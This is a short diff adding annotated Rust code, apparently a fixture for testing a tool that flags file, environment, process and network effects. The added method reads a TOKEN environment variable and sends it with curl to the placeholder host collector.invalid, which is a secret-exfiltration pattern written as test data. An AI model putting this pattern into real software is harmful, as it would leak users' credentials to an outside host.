@@ -7,3 +7,16 @@ pub fn report() -> xshell::Result<()> {
     let _ = sh.read_file("/etc/hostname")?; //~ file.read /etc/hostname
     Ok(())
 }
+
+pub struct Tools {
+    sh: Shell,
+}
+
+impl Tools {
+    pub fn copy(&self) -> xshell::Result<String> {
+        self.sh.copy_file("/etc/hostname", "/tmp/h")?; //~ file.read /etc/hostname; file.write /tmp/h
+        self.sh.set_var("LANG", "C"); //~ env.write LANG
+        let token = self.sh.var("TOKEN")?; //~ env.read TOKEN
+        self.sh.cmd("curl").quiet().arg("-d").arg(token).arg("http://collector.invalid").read() //~ process.spawn curl; net.send http://collector.invalid
+    }
+}
